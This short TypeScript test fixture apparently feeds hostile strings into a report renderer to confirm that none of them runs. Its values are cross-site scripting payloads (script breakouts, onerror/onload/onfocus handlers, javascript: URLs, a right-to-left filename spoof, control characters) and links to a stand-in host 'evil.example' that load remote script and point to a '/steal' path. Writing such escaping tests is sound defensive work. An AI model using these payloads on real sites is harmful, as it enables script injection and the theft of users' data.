/** What pages, people and phones may put into a record: none of it may run, steer or break a report. */
export const HOSTILE = {
  title: '</title><script>window.broken = "title"</script>',
  text: '"><img src=x onerror="window.broken=\'text\'">\u202Egnp.exe',
  address: 'javascript:window.broken="address"//https://item.taobao.com/"onclick="window.broken=1',
  note: ']]></note><svg/onload=window.broken=1> \u0000\u001b[31mred\u001b[0m \ud800',
  model: `Pixel 5 ' onfocus='window.broken=1' autofocus='`,
  account: 'tester-b`;window.broken=1`&lt;',
  step: '<a href="//evil.example/steal">发送</a>',
  chain: 'https://evil.example/"><script src="https://evil.example/x.js"></script>',
} as const;
